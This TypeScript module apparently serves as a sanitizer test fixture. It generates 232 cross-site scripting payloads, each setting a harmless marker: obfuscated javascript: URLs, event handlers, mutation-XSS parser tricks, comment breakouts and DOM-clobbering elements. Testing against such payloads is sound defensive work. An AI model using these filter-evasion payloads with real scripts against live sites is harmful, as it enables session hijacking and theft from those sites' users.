/** The script that runs if a payload works. */
const RUN = "window.broken=1";

/** Schemes that run what follows, as they are hidden from those who look for them. */
const ADDRESSES = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}`,
	` javascript:${RUN}`,
	`java\tscript:${RUN}`,
	`java\nscript:${RUN}`,
	`java\rscript:${RUN}`,
	`\u0001javascript:${RUN}`,
	`java&Tab;script:${RUN}`,
	`java&NewLine;script:${RUN}`,
	`javascript&colon;${RUN}`,
	`&#106;avascript:${RUN}`,
	`&#x6A;avascript:${RUN}`,
	`&#0000106avascript:${RUN}`,
	`javascript://example.org/%0a${RUN}`,
	`vbscript:${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	`data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=`,
	`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
	`view-source:javascript:${RUN}`,
	`feed:javascript:${RUN}`,
	`blob:javascript:${RUN}`,
	`//example.org/\u0000javascript:${RUN}`,
];

/** Elements in which an address may stand. */
const HOLDERS = [
	(address: string) => `<a href="${address}">read on</a>`,
	(address: string) => `<img src="${address}" alt="">`,
	(address: string) => `<iframe src="${address}"></iframe>`,
	(address: string) => `<form action="${address}"><button>send</button></form>`,
];

/** Elements and the events that they tell of without anybody doing anything, or nearly so. */
const HANDLERS = [
	["img src=/assets/none", "error"],
	["img src=/assets/none", "load"],
	["svg", "load"],
	["body", "load"],
	["body", "pageshow"],
	["iframe", "load"],
	["input autofocus", "focus"],
	["select autofocus", "focus"],
	["textarea autofocus", "focus"],
	["details open", "toggle"],
	["video src=x", "error"],
	["audio src=x", "error"],
	["object data=x", "error"],
	["marquee", "start"],
	["p", "click"],
	["p", "mouseover"],
	["p", "pointerenter"],
	["p contenteditable", "blur"],
	["a href=/news", "focus"],
	["table", "animationstart"],
	["td", "beforetoggle"],
	["h2", "auxclick"],
	["figure", "transitionend"],
	["blockquote", "copy"],
] as const;

/** How an event's handler may be written. */
const SPELLINGS = [
	(tag: string, event: string) => `<${tag} on${event}="${RUN}">text`,
	(tag: string, event: string) => `<${tag} ON${event.toUpperCase()}='${RUN}'>text`,
	(tag: string, event: string) => `<${tag}/on${event}=${RUN}>text`,
];

/** Elements that run, load, or change what the rest of a text means. */
const ELEMENTS = [
	`<script>${RUN}</script>`,
	`<SCRIPT>${RUN}</SCRIPT>`,
	`<script src="data:text/javascript,${RUN}"></script>`,
	`<script type="module">${RUN}</script>`,
	`<scr<script>ipt>${RUN}</scr</script>ipt>`,
	`<<script>${RUN}//<</script>`,
	`<script >${RUN}</script >`,
	`<script\n>${RUN}</script\n>`,
	`<script/x>${RUN}</script>`,
	`</p><script>${RUN}</script><p>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin="${RUN}" attributeName="x" dur="1s">`,
	`<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x">`,
	`<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
	`<math href="javascript:${RUN}">x</math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<style>@import "javascript:${RUN}";</style>`,
	`<style><img src="</style><img src=x onerror=${RUN}>">`,
	`<p style="background:url(javascript:${RUN})">x</p>`,
	`<p style="width:expression(${RUN})">x</p>`,
	`<link rel="stylesheet" href="javascript:${RUN}">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
	`<base href="javascript:${RUN}//">`,
	`<object data="javascript:${RUN}"></object>`,
	`<embed src="javascript:${RUN}">`,
	`<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
	`<template><script>${RUN}</script></template>`,
	`<textarea><script>${RUN}</script></textarea>`,
	`<title><img src=x onerror=${RUN}></title>`,
	`<xmp><img src=x onerror=${RUN}></xmp>`,
	`<plaintext><img src=x onerror=${RUN}>`,
	`<!--><img src=x onerror=${RUN}>-->`,
	`<!--<img src="--><img src=x onerror=${RUN}>">`,
	`<![CDATA[<img src=x onerror=${RUN}>]]>`,
	`<?xml version="1.0"?><img src=x onerror=${RUN}>`,
	`<img src="/assets/a" alt="\`><script>${RUN}</script>">`,
	`<img src="/assets/a" alt='"><script>${RUN}</script>'>`,
	`<a href="/news" title="x" onclick="${RUN}" onclick="">x</a>`,
	`<a href='/news"onmouseover="${RUN}'>x</a>`,
	`<img src="/assets/a"srcset="x onerror=${RUN}">`,
	`<td lang='"><img src=x onerror=${RUN}>'>x</td>`,
	`<a id="__reactRouterContext" name="body" href="/news">x</a>`,
	`<form id="content"><input name="attributes"><input name="innerHTML"></form>`,
	`&lt;script&gt;${RUN}&lt;/script&gt;`,
	`&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
	`<img src=x onerror=&#119;indow.broken=1>`,
	`<portal src="javascript:${RUN}"></portal>`,
];

/** Texts that try to run something in a page that shows them as HTML: 232 of them, each a different one. */
export const XSS_PAYLOADS: readonly string[] = [
	...ELEMENTS,
	...ADDRESSES.flatMap((address) => HOLDERS.map((hold) => hold(address))),
	...HANDLERS.flatMap(([tag, event]) => SPELLINGS.map((spell) => spell(tag, event))),
	...ELEMENTS.slice(0, 22).map((element) => `<table><caption>${element}</caption><tr><td>${element}</td></tr></table>`),
];
